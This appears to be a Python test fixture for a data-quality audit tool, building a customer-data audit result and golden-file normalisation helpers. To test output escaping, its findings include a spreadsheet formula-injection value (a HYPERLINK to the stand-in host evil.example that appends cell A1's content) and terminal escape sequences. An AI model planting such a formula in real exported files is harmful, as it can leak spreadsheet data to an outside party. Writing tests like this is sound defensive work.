"""A hand-built audit result with every case the renderers must handle, and normalisation of
the run's volatile fields for golden-file comparison.

Two sources (CSV and Excel), seven rules across all dimensions: a failing rule, two warnings, a
pass, a pass with failures inside its threshold, and a rule that evaluated nothing (status
not_evaluated, named as a warning beside the gate). The findings
hold e-mail, phone and text values, including a ``|``, a spreadsheet formula, a newline and
terminal escape sequences, so that every output's escaping and masking is exercised.
"""

from __future__ import annotations

import json
import re
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import polars as pl

from veracity.checks.base import Dimension
from veracity.errors import Location
from veracity.results import (
    FINDINGS_COLUMNS,
    AuditResult,
    DimensionScore,
    FieldLineage,
    GateDecision,
    RecordScores,
    RuleResult,
    RunInfo,
    Severity,
    Status,
)
from veracity.sources.base import ColumnOrigin, SourceInfo

REPO_ROOT = Path(__file__).resolve().parents[2]

CSV_PATH = "exports/customers.csv"
XLSX_PATH = "exports/crm_contacts.xlsx"
DURATION = 3.482

#: Raw values that must never appear in a masked output.
RAW_EMAILS = ("jane.doe@example.com", " max.mustermann@beispiel.de", "anna@@example.org")
RAW_PHONE = "+49 30 1234 5689"
PIPE_VALUE = "Hauptstr. 5 | Hinterhaus"
FORMULA_VALUE = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
NEWLINE_VALUE = "Am Markt 3\nApt 4"
ESCAPE_VALUE = "\x1b[31mRed Street 1\x1b[0m"
STREET_MESSAGE = "does not match `^[A-Z].* \\d+$|^Postfach \\d+$`"


def _rule(
    rule_id: str,
    check: str,
    dimension: Dimension,
    severity: Severity,
    threshold: float,
    fields: list[str],
    evaluated: int,
    failed: int,
    status: Status,
    *,
    line: int,
    when: str | None = None,
    description: str | None = None,
    weight: float = 1.0,
) -> RuleResult:
    return RuleResult(
        id=rule_id,
        check=check,
        dimension=dimension,
        severity=severity,
        threshold=threshold,
        weight=weight,
        fields=fields,
        when=when,
        description=description,
        location=Location("rules/customers.yaml", line, 5),
        evaluated=evaluated,
        failed=failed,
        pass_rate=(evaluated - failed) / evaluated if evaluated else 1.0,
        status=status,
    )


RULES = [
    _rule(
        "email-valid",
        "email",
        Dimension.VALIDITY,
        Severity.ERROR,
        0.99,
        ["email"],
        1436,
        21,
        Status.FAIL,
        line=12,
        weight=2.0,
        description="Every contact needs a deliverable e-mail address.",
    ),
    _rule(
        "phone-valid",
        "phone",
        Dimension.VALIDITY,
        Severity.WARNING,
        0.98,
        ["phone"],
        1380,
        37,
        Status.WARN,
        line=19,
    ),
    _rule(
        "customer-id-required",
        "not_null",
        Dimension.COMPLETENESS,
        Severity.ERROR,
        0.999,
        ["customer_id"],
        1440,
        0,
        Status.PASS,
        line=25,
    ),
    _rule(
        "customer-id-unique",
        "unique",
        Dimension.UNIQUENESS,
        Severity.ERROR,
        0.995,
        ["customer_id"],
        1440,
        4,
        Status.PASS,
        line=30,
    ),
    _rule(
        "street-format",
        "pattern",
        Dimension.CONSISTENCY,
        Severity.WARNING,
        0.999,
        ["street"],
        1400,
        4,
        Status.WARN,
        line=36,
        description="Street and house number, or a PO box | Postfach.",
    ),
    _rule(
        "signup-not-future",
        "not_future",
        Dimension.TIMELINESS,
        Severity.ERROR,
        1.0,
        ["signup_date"],
        0,
        0,
        Status.NOT_EVALUATED,
        line=43,
        when="country == 'DE' and signup_date is not null",
    ),
    _rule(
        "consent-before-contact",
        "consent_before",
        Dimension.CONSENT,
        Severity.ERROR,
        0.95,
        ["consent", "last_contact"],
        1200,
        300,
        Status.FAIL,
        line=49,
        weight=3.0,
    ),
]


def _findings() -> pl.DataFrame:
    rows: list[dict[str, Any]] = []
    by_id = {r.id: r for r in RULES}

    def add(rule_id: str, source: str, line: int, key: str | None, message: str, value: str | None) -> None:
        rule = by_id[rule_id]
        kind = {"email": "email", "phone": "phone"}.get(rule.check, "text")
        rows.append(
            {
                "rule": rule.id,
                "check": rule.check,
                "dimension": rule.dimension.value,
                "severity": rule.severity.value,
                "field": rule.fields[0],
                "source": source,
                "line": line,
                "record_key": key,
                "message": message,
                "value": value,
                "cluster_id": None,
                "value_kind": kind,
            }
        )

    bad_email = "not a valid e-mail address"
    add("email-valid", CSV_PATH, 14, "C-000012", "domain does not accept e-mail", RAW_EMAILS[0])
    add("email-valid", CSV_PATH, 27, "C-000025", "leading or trailing whitespace", RAW_EMAILS[1])
    add("email-valid", CSV_PATH, 31, "C-000029", bad_email, RAW_EMAILS[2])
    add("email-valid", XLSX_PATH, 2, "100001", bad_email, "jane.doe@example")
    for i in range(17):
        add("email-valid", XLSX_PATH, 10 + i, f"1000{10 + i}", bad_email, f"user{i}@example")

    add("phone-valid", CSV_PATH, 8, "C-000006", "not a valid phone number", RAW_PHONE + "0000")
    add("phone-valid", CSV_PATH, 40, "C-000038", "not a valid phone number", "030-12")
    for i in range(35):
        add("phone-valid", XLSX_PATH, 50 + i, f"1000{50 + i}", "not a valid phone number", f"0{i:02d}1234")

    for line, key in [(101, "C-000099"), (102, "C-000099"), (130, "100007"), (131, "100007")]:
        source = CSV_PATH if line < 120 else XLSX_PATH
        add("customer-id-unique", source, line, key, "duplicate customer_id", key)

    add("street-format", CSV_PATH, 55, "C-000053", STREET_MESSAGE, PIPE_VALUE)
    add("street-format", CSV_PATH, 61, "C-000059", STREET_MESSAGE, FORMULA_VALUE)
    add("street-format", XLSX_PATH, 7, "+100004", STREET_MESSAGE, NEWLINE_VALUE)
    add("street-format", XLSX_PATH, 9, "@100006", STREET_MESSAGE, ESCAPE_VALUE)

    for i in range(300):
        add(
            "consent-before-contact",
            CSV_PATH,
            200 + i,
            f"C-{200 + i:06d}",
            "contacted before consent was given",
            None if i % 7 == 3 else "no",
        )

    frame = pl.DataFrame(
        rows, schema=dict.fromkeys(rows[0], pl.String) | {"line": pl.UInt32, "cluster_id": pl.Int64}
    )
    return frame.select(*FINDINGS_COLUMNS, "value_kind")


def _sources() -> list[SourceInfo]:
    return [
        SourceInfo(
            index=0,
            path=CSV_PATH,
            format="csv",
            size=482_113,
            sha256="3b4c1f0e9a7d2c56b8e01f4d3a2b9c8d7e6f5a4b3c2d1e0f9a8b7c6d5e4f3a2b",
            rows=1200,
            position_kind="line",
            columns=[
                ColumnOrigin("Customer ID", "customer_id", "string"),
                ColumnOrigin("E-Mail", "email", "string", missing_replaced=4),
                ColumnOrigin("Phone", "phone", "string"),
                ColumnOrigin("Street", "street", "string", missing_replaced=2),
                ColumnOrigin("Signup Date", "signup_date", "string"),
                ColumnOrigin("Consent", "consent", "string"),
                ColumnOrigin("Last Contact", "last_contact", "string"),
            ],
            encoding="utf-8",
            delimiter=";",
            null_markers=("n/a", "-"),
        ),
        SourceInfo(
            index=1,
            path=XLSX_PATH,
            format="xlsx",
            size=20_480,
            sha256="a9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d9c8b7a6f5e4d3c2b1a0f9e8",
            rows=240,
            position_kind="row",
            columns=[
                ColumnOrigin("id", "customer_id", "int64"),
                ColumnOrigin("mail", "email", "string"),
                ColumnOrigin("tel", "phone", "string"),
                ColumnOrigin("address", "street", "string"),
            ],
            sheet="Contacts",
        ),
    ]


def build_result(started_at: str | None = None) -> AuditResult:
    """The fixture result; ``started_at`` defaults to now, as in a real run."""
    started = started_at or datetime.now(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
    return AuditResult(
        run=RunInfo(
            tool="veracity",
            version="0.1.0",
            started_at=started,
            duration_seconds=DURATION,
            as_of="2024-06-30",
            rule_file="rules/customers.yaml",
            rule_file_sha256="5d41402abc4b2a76b9719d911017c592ae2f5f1d7c2f0b8a9e3c4d5e6f708192",
            key="customer_id",
        ),
        sources=_sources(),
        lineage=[
            FieldLineage(
                "customer_id",
                [(0, "Customer ID", "string"), (1, "id", "int64")],
                [
                    "renamed from 'Customer ID' (exports/customers.csv)",
                    "int64 values read as text (sheet Contacts)",
                ],
                personal=False,
            ),
            FieldLineage(
                "email",
                [(0, "E-Mail", "string"), (1, "mail", "string")],
                ["4 whitespace-only values or null markers ('n/a', '-') set to missing"],
                purpose="order confirmations and the newsletter",
            ),
            FieldLineage("phone", [(0, "Phone", "string"), (1, "tel", "string")], []),
            FieldLineage(
                "street",
                [(0, "Street", "string"), (1, "address", "string")],
                ["2 whitespace-only values or null markers set to missing"],
            ),
            FieldLineage(
                "signup_date", [(0, "Signup Date", "string")], ["parsed with format %d.%m.%Y"], personal=False
            ),
            FieldLineage("consent", [(0, "Consent", "string")], [], personal=False),
            FieldLineage("last_contact", [(0, "Last Contact", "string")], [], personal=False),
        ],
        rules=RULES,
        dimensions=[
            DimensionScore(Dimension.COMPLETENESS, 100.0, 1, 1440, 0),
            DimensionScore(Dimension.VALIDITY, 97.9412, 2, 2816, 58),
            DimensionScore(Dimension.UNIQUENESS, 99.72222, 1, 1440, 4),
            DimensionScore(Dimension.TIMELINESS, None, 1, 0, 0),
            DimensionScore(Dimension.CONSISTENCY, 99.714286, 1, 1400, 4),
            DimensionScore(Dimension.CONSENT, 75.0, 1, 1200, 300),
        ],
        score=88.4715,
        records=RecordScores(
            records=1440,
            mean=96.8137,
            minimum=40.0,
            p10=83.3333,
            p25=100.0,
            median=100.0,
            perfect_share=0.7423611,
            histogram=[
                (0.0, 10.0, 0),
                (10.0, 20.0, 0),
                (20.0, 30.0, 0),
                (30.0, 40.0, 0),
                (40.0, 50.0, 3),
                (50.0, 60.0, 12),
                (60.0, 70.0, 31),
                (70.0, 80.0, 58),
                (80.0, 90.0, 267),
                (90.0, 100.0, 1069),
            ],
        ),
        gate=GateDecision(
            passed=False,
            min_score=95.0,
            reasons=[
                "score 88.47 is below the minimum 95.00",
                "rule email-valid (error) failed: pass rate 98.54% is below its threshold 99.00%",
                "rule consent-before-contact (error) failed: pass rate 75.00% is below its threshold 95.00%",
            ],
            warnings=[
                "rule signup-not-future evaluated no record and is left out of the scores; "
                "set min_evaluated: in the rule file to fail the gate when it does"
            ],
        ),
        findings=_findings(),
    )


def normalise(text: str, result: AuditResult) -> str:
    """``text`` with the run's volatile parts (start time, duration, checkout location)
    replaced by placeholders, so that golden files stay valid across runs and machines."""
    text = text.replace(result.run.started_at, "<started_at>")
    text = re.sub(rf"\b{re.escape(f'{result.run.duration_seconds:.2f}')} s\b", "<duration> s", text)
    return text.replace(str(REPO_ROOT), "<root>")


def normalise_json(document: dict[str, Any]) -> str:
    document["run"]["started_at"] = "<started_at>"
    document["run"]["duration_seconds"] = "<duration>"
    text = json.dumps(document, indent=2, ensure_ascii=False) + "\n"
    return text.replace(json.dumps(str(REPO_ROOT))[1:-1], "<root>")
